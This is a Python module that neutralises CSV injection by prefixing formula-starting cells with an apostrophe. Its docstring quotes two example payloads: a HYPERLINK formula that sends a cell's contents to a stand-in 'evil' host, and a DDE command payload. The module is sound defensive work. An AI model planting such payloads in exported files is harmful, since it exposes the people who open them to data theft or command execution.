"""CSV for people: cells a spreadsheet cannot run as formulas (CSV injection, issue 23).

Why one shared module: every CSV meant to be opened in Excel, LibreOffice or Google Sheets
(the explorer's downloads, /changes.csv, `esfgraph diff --format csv`) carries text taken from
project pages: a title `=HYPERLINK("http://evil/?"&A1)` or an owner `+cmd|' /C calc'!A0` would
run when the file is opened. The OWASP rule
(https://owasp.org/www-community/attacks/CSV_Injection): a cell starting with `=`, `+`, `-`,
`@`, a tab or a carriage return (after any leading spaces) gets a leading `'`, which
spreadsheets show as text. Plain numbers (`-1200`, `+3`, `-0.5`) are left alone, so amounts
stay numbers.

Not for the SPARQL CSV result format (/sparql): that follows the W3C standard to the letter
and is read by programs.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from typing import Any

#: First characters a spreadsheet reads as the start of a formula (or a command, DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: Full-width forms some spreadsheets normalise to the ASCII ones before reading a formula.
_WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """A cell's text that no spreadsheet runs: formula starts get a leading `'`.

    None is an empty cell (missing is not zero). Numbers, and text that is a plain number
    (`-1200`), are written as they are.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    text = str(value)
    # leading spaces too: some spreadsheets trim them on import, then read the formula
    head = text.lstrip(" \u00a0")
    if head.startswith(FORMULA_STARTS + _WIDE) and not _NUMBER.fullmatch(head):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[str]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in row]


def csv_line(row: Iterable[Any]) -> str:
    """One safe CSV record with its CRLF (RFC 4180), for streamed downloads."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(safe_row(row))
    return out.getvalue()


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A whole safe CSV document: the header row, then the rows."""
    return "".join(csv_lines(header, rows))


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """A safe CSV document line by line (the header first), for a streaming response."""
    yield csv_line(header)
    for row in rows:
        yield csv_line(row)


__all__ = ["FORMULA_STARTS", "csv_line", "csv_lines", "csv_text", "safe_cell", "safe_row"]
